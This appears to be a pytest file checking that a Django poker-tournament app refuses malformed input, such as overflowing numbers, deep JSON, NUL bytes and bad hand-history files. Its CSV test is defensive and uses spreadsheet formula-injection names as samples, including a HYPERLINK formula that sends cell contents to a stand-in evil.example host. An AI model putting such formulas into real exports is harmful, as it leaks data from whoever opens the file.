"""Every input that once stopped a tournament or answered 5xx is refused when it comes in (4xx, the one error
shape, nothing written), and the settings that are accepted play on: one test per case found."""

from __future__ import annotations

import json
from typing import Any

import pytest
from django.test import Client

from apps.accounts.models import Player
from apps.accounts.permissions import Actor
from apps.tables import services as tables
from apps.tables.models import Hand
from apps.tournaments import payouts, seating
from apps.tournaments.models import Deal, Entry, Tournament
from apps.tournaments.results import tournament_finish_by_deal  # noqa: F401  (the deal's finish, below)
from tests.factories import ClubFactory, director_of
from tests.tournaments.helpers import STRUCTURE, given_director, given_tournament, open_tables

pytestmark = pytest.mark.django_db


@pytest.fixture
def director() -> tuple[Client, Any]:
    club = ClubFactory()
    client = Client()
    client.force_login(director_of(club))
    return client, club


def _post(client: Client, path: str, body: Any) -> Any:
    raw = body if isinstance(body, str | bytes) else json.dumps(body)
    return client.post(path, raw, content_type="application/json")


def _refused(response: Any, status: int = 400) -> dict[str, Any]:
    assert response.status_code == status, response.content[:500]
    body = response.json()
    assert set(body) == {"code", "message", "rule", "detail"}, body
    return body


def _tournament_body(club: Any, **settings: Any) -> dict[str, Any]:
    game = settings.pop("game", {"kind": "five-card-draw", "ante": 25})
    return {
        "club": club.pk,
        "name": "Bad input",
        "game": game,
        "starting_stack": 1000,
        "structure": STRUCTURE,
        "settings": settings,
    }


# --- settings: type and bounds ------------------------------------------------------------------------------


@pytest.mark.parametrize("chips", [[0], [-5, "a"], [2**70], [True], [25.5], "25", [5, 5]])
def test_chip_denominations_that_would_stop_every_hand_are_refused(director: Any, chips: Any) -> None:
    client, club = director
    body = _refused(_post(client, "/api/tournaments/", _tournament_body(club, chip_denominations=chips)))
    assert body["code"] == "invalid" and body["detail"]["field"] == "chip_denominations"
    assert "chip_denominations" in body["detail"]["fields"]
    assert not Tournament.objects.exists()


@pytest.mark.parametrize("limit", ["1e308", str(2**70), "true", "1e-300", "10.5", "0", "-1", "3601"])
def test_a_turn_time_limit_that_is_not_whole_seconds_within_an_hour_is_refused(
    director: Any, limit: str
) -> None:
    client, club = director
    raw = (
        f'{{"club": {club.pk}, "name": "T", "game": {{"kind": "2-7-triple-draw", "small_blind": 25, '
        f'"big_blind": 50, "turn_time_limit": {limit}}}}}'
    )
    body = _refused(_post(client, "/api/tables/", raw))
    assert body["detail"]["field"] == "game.turn_time_limit"


def test_a_turn_time_limit_too_large_for_a_float_is_refused_by_the_parser(director: Any) -> None:
    client, club = director
    raw = (
        f'{{"club": {club.pk}, "name": "T", "game": {{"kind": "five-card-draw", "turn_time_limit": 1e400}}}}'
    )
    assert _refused(_post(client, "/api/tables/", raw))["code"] == "number_not_finite"


@pytest.mark.parametrize(
    "setting",
    [
        {"bet_unit": 10.5},
        {"bet_unit": 0},
        {"ante": True},
        {"ante": 10**13},
        {"hands": 0},
        {"max_raises": -1},
        {"smallest_chip": "1"},
        {"amounts_in_units": 1},
        {"joker": ["wild"]},
    ],
)
def test_five_card_draw_settings_of_the_wrong_type_are_refused(
    director: Any, setting: dict[str, Any]
) -> None:
    client, club = director
    body = _refused(
        _post(
            client,
            "/api/tables/",
            {"club": club.pk, "name": "T", "game": {"kind": "five-card-draw", **setting}},
        )
    )
    assert body["detail"]["field"] == f"game.{next(iter(setting))}"


def test_a_game_kind_that_is_not_text_is_refused(director: Any) -> None:
    client, club = director
    body = _refused(_post(client, "/api/tables/", {"club": club.pk, "name": "T", "game": {"kind": ["x"]}}))
    assert body["detail"]["field"] == "game.kind"


@pytest.mark.parametrize(
    ("points", "field"),
    [
        ({"kind": "table", "table": [1e308]}, "points.table"),
        ({"kind": "table", "table": [2**70]}, "points.table"),
        ({"kind": "table", "table": ["10"]}, "points.table"),
        ({"kind": "tlb", "minor_units": 0}, "points.minor_units"),
        ({"kind": {}}, "points.kind"),
        ({"kind": "table", "table": [100], "bonus": 1}, "points.bonus"),
    ],
)
def test_league_points_that_would_overflow_at_the_final_action_are_refused(
    director: Any, points: dict[str, Any], field: str
) -> None:
    client, club = director
    body = _refused(_post(client, "/api/leagues/", {"club": club.pk, "name": "L", "points": points}))
    assert body["detail"]["field"] == field


@pytest.mark.parametrize(
    "suggest",
    [
        {"players": 20, "hours": 4, "level_minutes": 0},
        {"players": 20, "hours": 4, "level_minutes": 2.5},
        {"players": 1, "hours": 4},
        {"players": 20, "hours": 0},
        {"players": 20, "hours": 1000},
        {"players": 20},
    ],
)
def test_a_structure_suggestion_out_of_bounds_is_refused(director: Any, suggest: dict[str, Any]) -> None:
    client, club = director
    body = _tournament_body(club)
    del body["structure"]
    body["suggest"] = suggest
    assert _refused(_post(client, "/api/tournaments/", body))["code"] == "invalid"


@pytest.mark.parametrize("hours", ["nan", "inf", "-inf", "1e400", "0"])
def test_the_structure_endpoint_refuses_hours_that_are_not_a_finite_positive_number(hours: str) -> None:
    response = Client().get(
        "/api/tournaments/structure/",
        {"game": "five-card-draw", "starting_stack": 1000, "players": 20, "hours": hours},
    )
    _refused(response)


@pytest.mark.parametrize(
    "level",
    [
        {"seconds": 600.5, "ante": 25},
        {"seconds": True, "ante": 25},
        {"seconds": 600, "ante": 2**70},
        {"seconds": 600, "ante": 25, "bet_units": ["a"]},
        {"seconds": 600, "is_break": "yes"},
        {"minutes": 0, "ante": 25},
        "level",
    ],
)
def test_a_level_of_the_wrong_type_is_refused(director: Any, level: Any) -> None:
    client, club = director
    body = _tournament_body(club)
    body["structure"] = [level, *STRUCTURE]
    detail = _refused(_post(client, "/api/tournaments/", body))["detail"]
    assert detail.get("field", "").startswith("structure[0]") or "structure" in detail["fields"]


@pytest.mark.parametrize(
    "given",
    [
        {"buy_in": 10.5},
        {"buy_in": True},
        {"seats_per_table": 2**70},
        {"late_reg_until_level": -1},
        {"published": "yes"},
        {"payout": {"kind": "amounts", "amounts": ["x"]}},
        {"payout": {"kind": "percentages", "percentages": ["abc"]}},
        {"payout": {"kind": "standard", "unit": 0}},
        {"break_order": [1, 1]},
    ],
)
def test_tournament_settings_of_the_wrong_type_are_refused(director: Any, given: dict[str, Any]) -> None:
    client, club = director
    response = _post(client, "/api/tournaments/", _tournament_body(club, **given))
    assert response.status_code == 400, response.content
    assert not Tournament.objects.exists()


def test_a_seed_too_large_for_the_column_is_refused(director: Any) -> None:
    client, club = director
    body = _tournament_body(club)
    body["seed"] = 2**70
    _refused(_post(client, "/api/tournaments/", body))


# --- the request itself ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/pots/resolve", "/api/ping/", "/api/tables/"])
def test_json_nested_five_thousand_deep_is_a_400_on_every_json_endpoint(director: Any, path: str) -> None:
    client, _ = director
    body = _refused(_post(client, path, "[" * 5000 + "]" * 5000))
    assert body["code"] == "json_too_deep"


def test_a_json_body_over_the_size_limit_is_a_400(director: Any, settings: Any) -> None:
    client, _ = director
    settings.FLOOR_JSON_MAX_BYTES = 1000
    assert _refused(_post(client, "/api/ping/", {"message": "x" * 2000}))["code"] == "json_too_large"


@pytest.mark.parametrize(
    "raw", ['{"message": NaN}', '{"message": Infinity}', '{"message": -Infinity}', '{"message": 1e999}']
)
def test_non_finite_numbers_are_refused(raw: str) -> None:
    assert _refused(_post(Client(), "/api/ping/", raw))["code"] == "number_not_finite"


@pytest.mark.parametrize(
    "raw",
    [
        '{"club": CLUB, "name": "a\\u0000b"}',
        '{"club": CLUB, "name": "a\\ud800b"}',
        '{"club": CLUB, "name": "ok", "\\u0000": 1}',
        '{"club": CLUB, "name": "ok", "\\udfff": 1}',
    ],
)
def test_nul_and_lone_surrogates_are_refused_in_values_and_keys(director: Any, raw: str) -> None:
    client, club = director
    body = _refused(_post(client, f"/api/clubs/{club.pk}/players/", raw.replace("CLUB", str(club.pk))))
    assert body["code"] == "text_invalid"
    assert not Player.objects.exists()


def test_a_nul_in_a_query_string_or_a_form_field_is_refused() -> None:
    assert _refused(Client().get("/api/tournaments/structure/?game=a%00b"))["code"] == "text_invalid"
    response = Client().post("/pots/", {"ranking": "high\x00"})
    assert response.status_code == 400


def test_a_player_page_with_a_non_ascii_digit_for_the_tournament_answers() -> None:
    club, director = given_director()
    t = given_tournament(club, director, 2, published=True)
    seating.tournament_start(actor=director, tournament=t)
    player = Player.objects.filter(club=club).first()
    assert player is not None
    for odd in ("²", "٣", "1" * 30, "-1", ""):
        assert Client().get(f"/players/{player.pk}/", {"tournament": odd}).status_code == 200


# --- hands: PHH import and corrections ---------------------------------------------------------------------


def _table(players: int = 3) -> tuple[Any, Actor, Client]:
    club = ClubFactory()
    user = director_of(club)
    actor = Actor(user=user)
    table = tables.table_create(
        actor=actor, club=club, name="T1", game={"kind": "five-card-draw", "ante": 10}
    )
    for n in range(1, players + 1):
        tables.table_seat_player(actor=actor, table=table, number=n, stack=1000, player_name=f"P{n}")
    client = Client()
    client.force_login(user)
    return table, actor, client


PHH = """variant = "F2L3D"
antes = [0, 0]
blinds_or_straddles = [5, 10]
small_bet = 10
big_bet = 20
starting_stacks = [200, 200]
actions = ["d dh p1 7c6c5c4c2d", "d dh p2 AsKsQsJs9h", "p1 f"]
players = ["Ann", "Bob"]
"""


@pytest.mark.parametrize(
    "text",
    [
        PHH + "_floor_button = {x = 1}\n",
        PHH.replace("small_bet = 10", "small_bet = {a = {b = 1}}"),
        PHH.replace('players = ["Ann", "Bob"]', 'players = [{x = 1}, "Bob"]'),
        PHH.replace("starting_stacks = [200, 200]", "starting_stacks = [[200], 200]"),
        PHH.replace('players = ["Ann", "Bob"]', 'players = ["A\\u0000n", "Bob"]'),
        "a = " + "[" * 3000 + "]" * 3000,
    ],
)
def test_a_phh_file_with_a_field_of_the_wrong_type_is_a_400(text: str) -> None:
    table, _, client = _table()
    response = _post(client, f"/api/tables/{table.pk}/hands/import", {"phh": text})
    assert 400 <= response.status_code < 500, response.content[:300]
    assert not Hand.objects.filter(table=table).exists()


def test_a_phh_import_while_a_hand_is_live_is_refused_and_the_correction_still_goes_through() -> None:
    # given a hand in play at the table
    table, actor, client = _table()
    hand = tables.hand_start(actor=actor, table=table, button=3)

    # when the dealer's device imports a PHH hand
    refused = _refused(_post(client, f"/api/tables/{table.pk}/hands/import", {"phh": PHH}), 409)

    # then it is refused, and the director's correction of the live hand is not blocked by a later hand
    assert refused["code"] == "hand_in_progress"
    hand = tables.hand_event_record(
        actor=actor, hand_id=hand.pk, expected_seq=hand.seq, event={"type": "fold", "seat": 1}
    ).hand
    corrected = _post(
        client,
        f"/api/hands/{hand.pk}/corrections/",
        {"expected_seq": hand.seq, "reason": "misclick", "void_from_seq": hand.seq},
    )
    assert corrected.status_code == 201, corrected.content
    assert Hand.objects.filter(table=table).count() == 1

    # and once the hand is over the import goes through
    hand.refresh_from_db()
    while hand.status != Hand.Status.FINISHED:
        seat = hand.state["to_act"]
        hand = tables.hand_event_record(
            actor=actor, hand_id=hand.pk, expected_seq=hand.seq, event={"type": "fold", "seat": seat}
        ).hand
    exported = client.get(f"/api/hands/{hand.pk}/phh").content.decode()
    imported = _post(client, f"/api/tables/{table.pk}/hands/import", {"phh": exported})
    assert imported.status_code == 201, imported.content


@pytest.mark.parametrize(
    "event", [{"type": {}}, {"type": ["fold"]}, {"type": "fold", "seat": "x"}, "fold", {"seat": 1}]
)
def test_a_correction_with_an_event_of_the_wrong_type_is_a_400(event: Any) -> None:
    table, actor, client = _table()
    hand = tables.hand_start(actor=actor, table=table, button=3)
    response = _post(
        client,
        f"/api/hands/{hand.pk}/corrections/",
        {"expected_seq": hand.seq, "reason": "x", "events": [event]},
    )
    _refused(response)
    assert Hand.objects.get(pk=hand.pk).seq == hand.seq


def test_a_service_correction_with_an_event_type_that_is_not_text_is_refused() -> None:
    from apps.core.errors import ValidationFailed

    table, actor, _ = _table()
    hand = tables.hand_start(actor=actor, table=table, button=3)
    with pytest.raises(ValidationFailed) as info:
        tables.hand_correct(
            actor=actor, hand_id=hand.pk, expected_seq=hand.seq, reason="x", events=[{"type": {}}]
        )
    assert info.value.code == "event_invalid"


# --- deals ------------------------------------------------------------------------------------------------


def test_a_deal_is_not_accepted_while_a_hand_is_in_play() -> None:
    # given three left and a calculated deal
    club, director = given_director()
    t = given_tournament(club, director, 3, seats_per_table=3)
    seating.tournament_start(actor=director, tournament=t)
    deal = payouts.deal_calculate(actor=director, tournament=t, method=Deal.Method.CHIP_CHOP)
    (tt,) = open_tables(t)
    hand = tables.hand_start(actor=director, table=tt.table)

    # when the director accepts it while a hand is played
    client = Client()
    client.force_login(director.user)
    body = _refused(client.post(f"/api/deals/{deal.pk}/accept/", content_type="application/json"), 409)

    # then it is refused with the rule, the tournament runs on and the hand can still be played
    assert body["code"] == "hand_in_progress" and body["rule"]
    t.refresh_from_db()
    assert t.status == Tournament.Status.RUNNING
    seat = hand.state["to_act"]
    tables.hand_event_record(
        actor=director, hand_id=hand.pk, expected_seq=hand.seq, event={"type": "fold", "seat": seat}
    )


def test_a_deal_calculated_on_other_chips_is_stale() -> None:
    import random

    from apps.core.errors import Conflict
    from tests.tournaments.helpers import play_hand, quiet

    club, director = given_director()
    t = given_tournament(club, director, 3, seats_per_table=3)
    seating.tournament_start(actor=director, tournament=t)
    deal = payouts.deal_calculate(actor=director, tournament=t, method=Deal.Method.CHIP_CHOP)
    (tt,) = open_tables(t)
    play_hand(director, tt.table, random.Random(1), quiet)  # the chips move
    with pytest.raises(Conflict) as info:
        payouts.deal_accept(actor=director, deal=deal)
    assert info.value.code == "deal_stale"


# --- downloads ----------------------------------------------------------------------------------------------


def test_standings_csv_neutralises_formulas_and_keeps_numbers() -> None:
    import csv
    import io

    from apps.public.downloads import csv_cell

    # given a published running tournament whose players' names are spreadsheet formulas
    club, director = given_director()
    t = given_tournament(club, director, 0, published=True)
    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"prize")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tTab",
        "\rCR",
        "Ann",
    ]
    from apps.tournaments.services import entry_register

    for name in names:
        entry_register(actor=director, tournament=t, player_name=name)
    seating.tournament_start(actor=director, tournament=t)

    # when the public downloads the standings
    response = Client().get(f"/t/{t.pk}/standings.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))

    # then no cell starts with a formula character, and the numbers are numbers
    players = {r["player"] for r in rows}
    assert players == {"'" + n for n in names[:-1]} | {"Ann"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
        assert row["chips"].isdigit()
    assert [csv_cell(v) for v in (-12, "-12.50", "-5 chips", 0)] == [-12, "-12.50", "'-5 chips", 0]


def test_a_match_ends_when_one_player_holds_every_chip_before_its_last_hand() -> None:
    # found by the settings property test: a ten-hand match whose loser busted on hand 1 could deal no
    # further hand and never finished
    from tests.tournaments.helpers import play_hand, scripted

    club, director = given_director()
    t = given_tournament(club, director, 2, seats_per_table=2, format="match", match_hands=10)
    seating.tournament_start(actor=director, tournament=t)
    (tt,) = open_tables(t)
    import random

    play_hand(director, tt.table, random.Random(1), scripted({1, 2}, set(), [1, 2]))
    t.refresh_from_db()
    assert t.status == Tournament.Status.FINISHED
    places = sorted(Entry.objects.filter(tournament=t).values_list("place", flat=True))
    assert places == [1, 2]


def test_a_nul_in_a_devices_query_string_is_refused_on_the_lean_stack_too() -> None:
    from apps.accounts.services import device_issue

    club, director = given_director()
    t = given_tournament(club, director, 2, seats_per_table=2)
    seating.tournament_start(actor=director, tournament=t)
    (tt,) = open_tables(t)
    _, token = device_issue(actor=director, club=club, name="tablet", table_ids=[tt.table_id])
    device = Client(HTTP_AUTHORIZATION=f"Device {token}")
    body = _refused(device.get(f"/api/tournaments/{t.pk}/moves/?status=a%00b"))
    assert body["code"] == "text_invalid"
    assert device.get(f"/api/tables/{tt.table_id}/").status_code == 200  # the device itself is fine
